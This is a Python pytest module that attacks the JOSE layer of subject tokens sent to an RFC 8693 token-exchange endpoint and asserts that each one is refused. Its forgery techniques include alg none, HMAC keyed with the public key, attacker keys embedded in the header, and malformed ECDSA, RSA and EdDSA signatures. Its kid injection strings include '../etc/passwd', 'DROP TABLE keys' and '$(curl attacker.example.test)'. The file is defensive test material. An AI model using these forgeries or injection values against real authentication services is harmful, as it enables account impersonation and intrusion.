"""Attacks on the JOSE layer of the subject token: algorithm confusion, header tricks, embedded keys, kid
injection, forged and malformed signatures (Wycheproof-style), token structure, JSON parser differentials.

Every case sends the token to the token endpoint as an RFC 8693 subject token and requires a deliberate
``invalid_grant`` refusal (never a 5xx). Tokens signed with an IdP's *real* key stand for tokens an IdP could be
made to sign; tokens signed with an attacker key are forgeries.
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import json
import os

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.x509.oid import NameOID

from tests.support.attacks import assert_accepted, assert_refused, exchange
from tests.support.idp import ALGORITHMS, b64url, jws

P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ED25519_L = 2**252 + 27742317777372353535851937790883648493


def legit_parts(idp, **claims):
    header, payload, signature = idp.token(**claims).split(".")
    return header, payload, base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4))


# --- the positive baseline: each IdP's real tokens are accepted ---------------------------------------------


@pytest.mark.parametrize("which", ["corp", "ec", "ed", "strict", "partner"])
def test_baseline_real_tokens_are_accepted(client, world, which):
    """Without this every refusal below could be vacuous (a server that refuses everything passes them)."""
    assert_accepted(exchange(client, getattr(world, which).token()))


# --- alg: none, case variants, HMAC with the public key, alg/key-type confusion ------------------------------


@pytest.mark.parametrize(
    "alg",
    [
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        None,
        0,
        ["RS256"],
        {"RS256": True},
        "RS256 ",
        " RS256",
        "rs256",
        "RS256\u0000",
    ],
)
@pytest.mark.parametrize("signature", ["empty", "real"])
def test_alg_none_and_variants(client, world, alg, signature):
    """``alg: none`` in any spelling, or a non-string alg, with no signature or with a real RS256 signature."""
    header, payload, real = legit_parts(world.corp)
    forged = jws(
        {"alg": alg, "typ": "JWT", "kid": world.corp.kid},
        world.corp.claims(sub="mallory"),
        signature=b"" if signature == "empty" else real,
    )
    body = assert_refused(exchange(client, forged), "invalid_grant")
    assert "alg" in body["error_description"]


def _public_key_forms(idp):
    pub = idp.public_key
    return {
        "pem-spki": pub.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo),
        "pem-pkcs1": pub.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1),
        "der": pub.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo),
        "jwk-json": json.dumps(idp.public_jwk()).encode(),
    }


@pytest.mark.parametrize(
    "hmac_alg, digest", [("HS256", hashlib.sha256), ("HS384", hashlib.sha384), ("HS512", hashlib.sha512)]
)
@pytest.mark.parametrize("form", ["pem-spki", "pem-pkcs1", "der", "jwk-json"])
def test_hmac_signed_with_the_idps_public_key(client, world, hmac_alg, digest, form):
    """The classic key-confusion attack: the IdP's public RSA key used as the HMAC secret."""
    secret = _public_key_forms(world.corp)[form]
    header = b64url(json.dumps({"alg": hmac_alg, "typ": "JWT", "kid": world.corp.kid}))
    payload = b64url(json.dumps(world.corp.claims(sub="mallory")))
    mac = hmac.new(secret, f"{header}.{payload}".encode(), digest).digest()
    body = assert_refused(exchange(client, f"{header}.{payload}.{b64url(mac)}"), "invalid_grant")
    assert hmac_alg in body["error_description"]


@pytest.mark.parametrize("case", ["es256-on-rsa-kid", "ps256-not-allowed", "rs256-on-ec-kid", "eddsa-on-rsa-kid"])
def test_alg_and_key_type_confusion(client, world, case):
    if case == "es256-on-rsa-kid":  # attacker EC key, header names corp's RSA key
        token = jws({"alg": "ES256", "kid": world.corp.kid}, world.corp.claims(), world.attacker_ec.key)
    elif case == "ps256-not-allowed":  # real key, but PS256 is not among corp's allowed algorithms
        token = jws({"alg": "PS256", "kid": world.corp.kid}, world.corp.claims(), world.corp.key)
    elif case == "rs256-on-ec-kid":
        token = jws({"alg": "RS256", "kid": world.ec.kid}, world.ec.claims(), world.attacker_rsa.key)
    else:
        token = jws({"alg": "EdDSA", "kid": world.corp.kid}, world.corp.claims(), world.ed.key)
    assert_refused(exchange(client, token), "invalid_grant")


# --- header members: crit, b64, unknown ----------------------------------------------------------------------


@pytest.mark.parametrize("crit", [["exp"], [], ["b64"], ["x-custom"], "x-custom", None, ["alg"]])
def test_crit_is_refused_even_when_signed_by_the_idp(client, world, crit):
    token = world.corp.sign({**world.corp.header(), "crit": crit, "x-custom": 1}, world.corp.claims())
    body = assert_refused(exchange(client, token), "invalid_grant")
    assert "crit" in body["error_description"]


def test_unknown_header_members_are_ignored_per_rfc7515(client, world):
    """RFC 7515 §4: header members not understood and not in crit MUST be ignored. The refusal cases around
    this one would be vacuous if an extra member alone already made the server refuse."""
    assert_accepted(exchange(client, world.corp.token(header={"x-custom": {"a": [1]}, "zip": "DEF", "cty": None})))


def test_unknown_header_members_do_not_make_a_forgery_pass(client, world):
    token = world.attacker_rsa.sign(
        {**world.corp.header(), "x-custom": "trust-me", "skip_verify": True}, world.corp.claims()
    )
    assert_refused(exchange(client, token), "invalid_grant")


def test_b64_false_with_unencoded_payload(client, world):
    """RFC 7797 as a real signer would send it: crit b64, the raw JSON payload in the second segment."""
    header = b64url(json.dumps({"alg": "RS256", "kid": world.corp.kid, "b64": False, "crit": ["b64"]}))
    raw = json.dumps(world.corp.claims())
    signature = ALGORITHMS["RS256"].sign(f"{header}.".encode() + raw.encode(), world.corp.key)
    assert_refused(exchange(client, f"{header}.{raw}.{b64url(signature)}"), "invalid_grant")


def test_b64_false_signature_over_the_raw_payload_without_crit(client, world):
    header = b64url(json.dumps({"alg": "RS256", "kid": world.corp.kid, "b64": False}))
    raw = json.dumps(world.corp.claims(), separators=(",", ":"))
    signature = ALGORITHMS["RS256"].sign(f"{header}.".encode() + raw.encode(), world.corp.key)
    assert_refused(exchange(client, f"{header}.{b64url(raw)}.{b64url(signature)}"), "invalid_grant")


def test_b64_false_header_signed_by_the_idp_is_refused(client, world):
    """A token whose header says its payload is NOT base64url (RFC 7797) cannot be a JWT (RFC 7797 §7); b64
    without crit is itself malformed (RFC 7797 §6). The server must not silently reinterpret it."""
    token = world.corp.sign({**world.corp.header(), "b64": False}, world.corp.claims())
    assert_refused(exchange(client, token), "invalid_grant")


# --- keys embedded in the header: jwk, jku, x5u, x5c ---------------------------------------------------------


def _attacker_certificate(attacker):
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "idp.example.test")])
    now = datetime.datetime(2027, 1, 1, tzinfo=datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(attacker.public_key)
        .serial_number(1)
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=3650))
        .sign(attacker.key, hashes.SHA256())
    )
    return base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()


@pytest.mark.parametrize("member", ["jwk", "jku", "x5u", "x5c", "jwk+jku+x5u+x5c"])
@pytest.mark.parametrize("kid", ["idp-kid", "attacker-kid", "no-kid"])
def test_embedded_key_references_cannot_supply_the_key(client, world, member, kid):
    attacker = world.attacker_rsa
    embedded = {
        "jwk": attacker.public_jwk(),
        "jku": "https://attacker.example.test/jwks.json",
        "x5u": "https://attacker.example.test/cert.pem",
        "x5c": [_attacker_certificate(attacker)],
    }
    members = {m: embedded[m] for m in member.split("+")}
    header = {"alg": "RS256", "typ": "JWT", **members}
    if kid != "no-kid":
        header["kid"] = world.corp.kid if kid == "idp-kid" else attacker.kid
    token = jws(header, world.corp.claims(sub="mallory"), attacker.key)
    assert_refused(exchange(client, token), "invalid_grant")


# --- kid injection -------------------------------------------------------------------------------------------

KID_STRINGS = {
    "path-traversal": "../../../../../../etc/passwd",
    "path-absolute": "/dev/null",
    "path-to-own-kid": "./{kid}",
    "sql-or": "' OR '1'='1",
    "sql-union": "x' UNION SELECT 'secret' --",
    "sql-stacked": "1; DROP TABLE keys; --",
    "null-byte-suffix": "{kid}\u0000",
    "null-byte-only": "\u0000",
    "trailing-space": "{kid} ",
    "case-changed": "{KID}",
    "empty": "",
    "very-long": "k" * 10000,
    "command": "$(curl attacker.example.test)",
    "url": "https://attacker.example.test/key",
}


@pytest.mark.parametrize("name", list(KID_STRINGS))
@pytest.mark.parametrize("signer", ["idp-key", "attacker-key"])
def test_kid_injection_strings(client, world, name, signer):
    """Only an exact kid selects a key: even the IdP's own signature is refused under a look-alike kid."""
    kid = KID_STRINGS[name].replace("{kid}", world.corp.kid).replace("{KID}", world.corp.kid.upper())
    if kid == world.corp.kid:  # e.g. an all-digit kid has no upper case: not a look-alike
        pytest.skip("look-alike equals the real kid")
    key = world.corp.key if signer == "idp-key" else world.attacker_rsa.key
    token = jws({"alg": "RS256", "typ": "JWT", "kid": kid}, world.corp.claims(), key)
    assert_refused(exchange(client, token), "invalid_grant")


@pytest.mark.parametrize("kid", [1, 0, -1, 1.5, True, False, ["{kid}"], {"kid": "{kid}"}, [], {}])
def test_kid_that_is_not_a_string(client, world, kid):
    kid = json.loads(json.dumps(kid).replace("{kid}", world.corp.kid))
    token = world.corp.sign({**world.corp.header(), "kid": kid}, world.corp.claims())
    body = assert_refused(exchange(client, token), "invalid_grant")
    assert "kid" in body["error_description"]


def test_kid_null_with_an_attacker_key(client, world):
    token = jws({"alg": "RS256", "kid": None}, world.corp.claims(), world.attacker_rsa.key)
    assert_refused(exchange(client, token), "invalid_grant")


# --- forged and malformed signatures (Wycheproof-style) ------------------------------------------------------


def _ecdsa(r, s):
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


ECDSA_CASES = {
    "r=0,s=0": lambda r, s, sig: bytes(64),
    "r=0": lambda r, s, sig: _ecdsa(0, s),
    "s=0": lambda r, s, sig: _ecdsa(r, 0),
    "r=n": lambda r, s, sig: _ecdsa(P256_N, s),
    "s=n": lambda r, s, sig: _ecdsa(r, P256_N),
    "r=n+r(mod 2^256)": lambda r, s, sig: _ecdsa((r + P256_N) % 2**256, s),
    "s=s+n(mod 2^256)": lambda r, s, sig: _ecdsa(r, (s + P256_N) % 2**256),
    "r=s=n-1": lambda r, s, sig: _ecdsa(P256_N - 1, P256_N - 1),
    "r=s=1": lambda r, s, sig: _ecdsa(1, 1),
    "all-ones": lambda r, s, sig: b"\xff" * 64,
    "r,s swapped": lambda r, s, sig: _ecdsa(s, r),
    "truncated-63": lambda r, s, sig: sig[:63],
    "truncated-32": lambda r, s, sig: sig[:32],
    "one-byte": lambda r, s, sig: sig[:1],
    "empty": lambda r, s, sig: b"",
    "extra-byte": lambda r, s, sig: sig + b"\x00",
    "leading-zero-byte": lambda r, s, sig: b"\x00" + sig,
    "der-encoded": lambda r, s, sig: encode_dss_signature(r, s),
    "p384-length": lambda r, s, sig: sig + bytes(32),
    "bit-flip": lambda r, s, sig: sig[:-1] + bytes([sig[-1] ^ 1]),
}


@pytest.mark.parametrize("case", list(ECDSA_CASES))
def test_es256_malformed_signatures(client, world, case):
    header, payload, sig = legit_parts(world.ec, sub="mallory")
    r, s = int.from_bytes(sig[:32], "big"), int.from_bytes(sig[32:], "big")
    forged = ECDSA_CASES[case](r, s, sig)
    assert forged != sig
    assert_refused(exchange(client, f"{header}.{payload}.{b64url(forged)}"), "invalid_grant")


RSA_CASES = {
    "empty": lambda sig, n: b"",
    "all-zero": lambda sig, n: bytes(len(sig)),
    "one": lambda sig, n: (1).to_bytes(len(sig), "big"),
    "modulus": lambda sig, n: n.to_bytes(len(sig), "big"),
    "modulus+1": lambda sig, n: (n + 1).to_bytes(len(sig), "big"),
    "modulus-1": lambda sig, n: (n - 1).to_bytes(len(sig), "big"),
    "sig+modulus": lambda sig, n: (int.from_bytes(sig, "big") + n).to_bytes(len(sig) + 1, "big"),
    "all-ones": lambda sig, n: b"\xff" * len(sig),
    "truncated": lambda sig, n: sig[:-1],
    "half": lambda sig, n: sig[: len(sig) // 2],
    "leading-zero-byte": lambda sig, n: b"\x00" + sig,
    "trailing-zero-byte": lambda sig, n: sig + b"\x00",
    "bit-flip": lambda sig, n: sig[:-1] + bytes([sig[-1] ^ 1]),
}


@pytest.mark.parametrize("case", list(RSA_CASES))
def test_rs256_malformed_signatures(client, world, case):
    header, payload, sig = legit_parts(world.corp, sub="mallory")
    n = world.corp.public_key.public_numbers().n
    forged = RSA_CASES[case](sig, n)
    assert forged != sig
    assert_refused(exchange(client, f"{header}.{payload}.{b64url(forged)}"), "invalid_grant")


EDDSA_CASES = {
    "empty": lambda sig: b"",
    "all-zero": lambda sig: bytes(64),
    "truncated": lambda sig: sig[:63],
    "extra-byte": lambda sig: sig + b"\x00",
    "S=L": lambda sig: sig[:32] + ED25519_L.to_bytes(32, "little"),
    "S=S+L": lambda sig: sig[:32] + ((int.from_bytes(sig[32:], "little") + ED25519_L) % 2**256).to_bytes(32, "little"),
    "R=0": lambda sig: bytes(32) + sig[32:],
    "bit-flip": lambda sig: sig[:-1] + bytes([sig[-1] ^ 1]),
}


@pytest.mark.parametrize("case", list(EDDSA_CASES))
def test_eddsa_malformed_signatures(client, world, case):
    header, payload, sig = legit_parts(world.ed, sub="mallory")
    forged = EDDSA_CASES[case](sig)
    assert forged != sig
    assert_refused(exchange(client, f"{header}.{payload}.{b64url(forged)}"), "invalid_grant")


def test_signature_of_another_message(client, world):
    """A real signature, transplanted onto other claims."""
    _, _, real = legit_parts(world.ec, sub="alice")
    header, payload, _ = legit_parts(world.ec, sub="mallory")
    assert_refused(exchange(client, f"{header}.{payload}.{b64url(real)}"), "invalid_grant")


@pytest.mark.parametrize("kid_of", ["corp", "partner", "none"])
def test_signature_from_another_idps_key(client, world, kid_of):
    """partner is a legitimate IdP of the same application: its key must still not vouch for corp's issuer."""
    header = {"alg": "RS256", "typ": "JWT"}
    if kid_of != "none":
        header["kid"] = getattr(world, kid_of).kid
    token = jws(header, world.corp.claims(), world.partner.key)
    assert_refused(exchange(client, token), "invalid_grant")


def test_team_b_key_cannot_sign_for_team_a_issuer(client, world):
    token = jws({"alg": "RS256", "kid": world.team_b.kid}, world.corp.claims(), world.team_b.key)
    assert_refused(exchange(client, token), "invalid_grant")


def test_signature_by_an_ec_key_of_another_idp(client, world):
    token = jws({"alg": "ES256", "kid": world.strict.kid}, world.ec.claims(), world.strict.key)
    assert_refused(exchange(client, token), "invalid_grant")


# --- structure: segment counts, encodings, non-JSON, sizes ---------------------------------------------------


def _structure_cases(world):
    h, p, s = world.corp.token().split(".")
    jwe_header = b64url(json.dumps({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": world.corp.kid}))
    return {
        "1-part": h,
        "2-parts": f"{h}.{p}",
        "2-parts-trailing-dot": f"{h}.{p}.",
        "4-parts": f"{h}.{p}.{s}.{s}",
        "5-parts-jwe": ".".join(
            [jwe_header, b64url(b"k" * 256), b64url(b"iv" * 6), b64url(b"ct" * 20), b64url(b"tag" * 5)]
        ),
        "6-parts": ".".join([h, p, s, h, p, s]),
        "dots-only": "..",
        "leading-dot": f".{h}.{p}",
        "empty-header": f".{p}.{s}",
        "empty-payload": f"{h}..{s}",
        "padded-segments": f"{h}==.{p}.{s}",
        "padded-signature": f"{h}.{p}.{s}=",
        "whitespace-inside": f"{h}. {p}.{s}",
        "newline-inside": f"{h}.{p}\n.{s}",
        "non-ascii": f"{h}.{p}é.{s}",
        "segment-length-1-mod-4": f"{h}.{p}.{s}A",
        "invalid-characters": f"{h}.{p}.{s[:-4]}!!!!",
        "json-instead-of-base64": json.dumps(world.corp.header()) + "." + json.dumps(world.corp.claims()) + "." + s,
        "header-not-json": f"{b64url('not json')}.{p}.{s}",
        "header-json-array": f"{b64url(json.dumps([world.corp.header()]))}.{p}.{s}",
        "header-json-string": f"{b64url(json.dumps('RS256'))}.{p}.{s}",
        "header-json-null": f"{b64url('null')}.{p}.{s}",
        "header-truncated-json": f"{b64url(json.dumps(world.corp.header())[:-1])}.{p}.{s}",
        "payload-not-json": f"{h}.{b64url('alice')}.{s}",
        "payload-json-array": f"{h}.{b64url(json.dumps([world.corp.claims()]))}.{s}",
        "payload-json-number": f"{h}.{b64url('42')}.{s}",
        "payload-invalid-utf8": f"{h}.{b64url(bytes([0x7B, 0x22, 0xC3, 0x28, 0x22, 0x3A, 0x31, 0x7D]))}.{s}",
        "header-and-payload-swapped": f"{p}.{h}.{s}",
        "oversized-token": f"{h}.{p}.{s}" + "A" * (16 * 1024),
        "oversized-header": world.corp.sign({**world.corp.header(), "x-pad": "x" * 17000}, world.corp.claims()),
        "oversized-payload": world.corp.sign(world.corp.header(), world.corp.claims(pad="x" * 17000)),
    }


STRUCTURE_CASES = [
    "1-part",
    "2-parts",
    "2-parts-trailing-dot",
    "4-parts",
    "5-parts-jwe",
    "6-parts",
    "dots-only",
    "leading-dot",
    "empty-header",
    "empty-payload",
    "padded-segments",
    "padded-signature",
    "whitespace-inside",
    "newline-inside",
    "non-ascii",
    "segment-length-1-mod-4",
    "invalid-characters",
    "json-instead-of-base64",
    "header-not-json",
    "header-json-array",
    "header-json-string",
    "header-json-null",
    "header-truncated-json",
    "payload-not-json",
    "payload-json-array",
    "payload-json-number",
    "payload-invalid-utf8",
    "header-and-payload-swapped",
    "oversized-token",
    "oversized-header",
    "oversized-payload",
]


@pytest.mark.parametrize("case", STRUCTURE_CASES)
def test_malformed_token_structure(client, world, case):
    token = _structure_cases(world)[case]
    assert_refused(exchange(client, token), "invalid_grant")


def test_token_at_the_size_cap_is_still_parsed(client, world):
    """The size refusals above are about size: a real token padded (in an ignored member) to just under the cap
    is accepted."""
    token = world.corp.token(header={"x-pad": ""})
    padded = world.corp.token(header={"x-pad": "x" * ((16 * 1024 - len(token)) * 3 // 4 - 4)})
    assert 16 * 1024 - 8 <= len(padded) <= 16 * 1024
    assert_accepted(exchange(client, padded))


@pytest.mark.parametrize("where", ["header", "payload"])
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-8-sig"])
def test_segments_that_are_not_utf8_json(client, world, where, encoding):
    """RFC 7515 §2/§7.1, RFC 7519 §7.2: header and claims are UTF-8 JSON. Other encodings open parser
    differentials (another consumer of the same token reads different, or no, claims)."""
    header, claims = world.corp.header(), world.corp.claims()
    if where == "header":
        token = world.corp.sign(json.dumps(header).encode(encoding), claims)
    else:
        token = world.corp.sign(header, json.dumps(claims).encode(encoding))
    assert_refused(exchange(client, token), "invalid_grant")


@pytest.mark.parametrize("where", ["header", "payload"])
@pytest.mark.parametrize("shape", ["closed-5000", "unclosed-11000"])
def test_deeply_nested_json_segment(client, world, where, shape):
    """An unauthenticated token (any key) whose header or payload nests arrays deeper than Python's recursion
    limit (1000, or 2500 once celpy is imported), well within the 16 KiB token cap. Unclosed brackets recurse
    just as deep before the syntax error, at one byte per level."""
    depth = int(shape.split("-")[1])
    nested = "[" * depth + ("]" * depth if shape.startswith("closed") else "")
    header = json.dumps(world.corp.header())[:-1] + ',"x":' + nested + "}"
    claims = json.dumps(world.corp.claims())[:-1] + ',"x":' + nested + "}"
    token = (
        world.attacker_rsa.sign(header.encode(), json.dumps(world.corp.claims()).encode())
        if where == "header"
        else world.attacker_rsa.sign(world.corp.header(), claims.encode())
    )
    assert len(token) <= 16 * 1024
    assert_refused(exchange(client, token), "invalid_grant")


def test_moderately_nested_json_is_fine(client, world):
    """Nesting as deep as real tokens get (and deeper), with many more brackets than the cap in total, parses and
    is refused on the signature, not crashed on: the depth cap counts nesting, not brackets."""
    siblings = ",".join(["[[[{}]]]"] * 200)
    claims = json.dumps(world.corp.claims())[:-1] + ',"x":[' + siblings + "]}"
    assert_refused(exchange(client, world.attacker_rsa.sign(world.corp.header(), claims.encode())), "invalid_grant")


@pytest.mark.parametrize("where", ["header", "payload"])
def test_nesting_up_to_the_depth_cap_is_accepted_and_one_more_level_is_refused(client, world, where):
    """The cap is MAX_JSON_DEPTH (64) levels, the segment's own object included; brackets inside strings do not
    count. Signed with the IdP's real key, so the only difference between the two tokens is the depth."""

    def token(levels):
        nested = "[" * levels + '"[[[[{{{{"' + "]" * levels
        header, claims = json.dumps(world.corp.header()), json.dumps(world.corp.claims())
        if where == "header":
            return world.corp.sign((header[:-1] + ',"x":' + nested + "}").encode(), claims.encode())
        return world.corp.sign(header.encode(), (claims[:-1] + ',"x":' + nested + "}").encode())

    assert_accepted(exchange(client, token(63)))
    body = assert_refused(exchange(client, token(64)), "invalid_grant")
    assert "64 levels" in body["error_description"], body


@pytest.mark.parametrize("where", ["header", "payload"])
def test_lone_surrogates_in_segments(client, world, where):
    """JSON \\ud800 escapes decode to lone surrogates; nothing that echoes them may crash the response."""
    header, claims = world.corp.header(), world.corp.claims()
    if where == "header":
        token = jws(json.dumps({**header, "kid": "\ud800" + header["kid"]}).encode(), claims, world.corp.key, "RS256")
    else:
        token = jws(header, json.dumps({**claims, "iss": claims["iss"] + "\udfff"}).encode(), world.corp.key)
    assert_refused(exchange(client, token), "invalid_grant")


@pytest.mark.parametrize("variant", ["standard-alphabet", "non-canonical-trailing-bits"])
def test_non_canonical_base64url_signature(client, world, variant):
    """RFC 7515 §2: base64url without padding. Accepting + and / (or non-zero padding bits) gives one signature
    several spellings: the same token is accepted under strings that differ (defeating any token-hash replay
    or revocation list)."""
    for _ in range(50):
        header, payload, signature = world.corp.token(jti=b64url(bytes(8) + os.urandom(8))).split(".")
        if variant == "standard-alphabet" and ("-" in signature or "_" in signature):
            respelled = signature.replace("-", "+").replace("_", "/")
            break
        if variant == "non-canonical-trailing-bits":  # 256 bytes -> 342 chars: the last one carries 4 unused bits
            alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
            last = alphabet.index(signature[-1])
            respelled = signature[:-1] + alphabet[last | 1] if last & 0xF == 0 else None
            if respelled:
                break
    else:
        pytest.fail("no suitable signature generated")
    assert base64.urlsafe_b64decode(signature + "==") == base64.b64decode(
        respelled.replace("-", "+").replace("_", "/") + "=="
    )
    assert_refused(exchange(client, f"{header}.{payload}.{respelled}"), "invalid_grant")


# --- nested JWT (cty: JWT) -----------------------------------------------------------------------------------


@pytest.mark.parametrize("outer_signer", ["attacker", "idp"])
def test_nested_jwt_is_not_unwrapped(client, world, outer_signer):
    """RFC 7519 §5.2 nested JWT: the payload is a whole signed JWT. The server does not unwrap; the outer payload
    is not a claims object, so the token is refused whoever signed either layer."""
    inner = world.corp.token()
    signer = world.attacker_rsa if outer_signer == "attacker" else world.corp
    token = signer.sign({**world.corp.header(), "cty": "JWT"}, inner.encode())
    assert_refused(exchange(client, token), "invalid_grant")


def test_nested_jwt_header_on_forged_claims(client, world):
    token = world.attacker_rsa.sign({**world.corp.header(), "cty": "JWT"}, world.corp.claims(sub="mallory"))
    assert_refused(exchange(client, token), "invalid_grant")


# --- duplicate JSON member names -----------------------------------------------------------------------------


def _with_duplicate(obj, name, first_value):
    """JSON text of ``obj`` with ``name`` appearing twice: ``first_value`` first, the object's own value last."""
    text = json.dumps(obj)
    return ("{" + json.dumps(name) + ":" + json.dumps(first_value) + "," + text[1:]).encode()


@pytest.mark.parametrize(
    "where, name, first",
    [
        ("header", "alg", "none"),
        ("header", "alg", "HS256"),
        ("header", "kid", "some-other-kid"),
        ("payload", "iss", "https://partner.example.test"),
        ("payload", "sub", "admin"),
        ("payload", "aud", "https://elsewhere.example.test"),
        ("payload", "exp", 1),
    ],
)
def test_duplicate_member_names_signed_by_the_idp(client, world, where, name, first):
    """RFC 7515 §4 / RFC 7519 §4 allow either refusing duplicates or keeping the last; keeping the last makes the
    server read a different token than a first-wins consumer (or a claim-injecting IdP template) sees. Safe
    behaviour chosen for Tokenbridge: refuse."""
    header, claims = world.corp.header(), world.corp.claims()
    if where == "header":
        token = world.corp.sign(_with_duplicate(header, name, first), claims)
    else:
        token = world.corp.sign(header, _with_duplicate(claims, name, first))
    assert_refused(exchange(client, token), "invalid_grant")


def test_duplicate_alg_cannot_smuggle_none(client, world):
    """With the forged (unsigned) token, the duplicate is refused whichever copy wins."""
    header = b'{"alg":"RS256","kid":"' + world.corp.kid.encode() + b'","alg":"none"}'
    assert_refused(exchange(client, jws(header, world.corp.claims(sub="mallory"))), "invalid_grant")
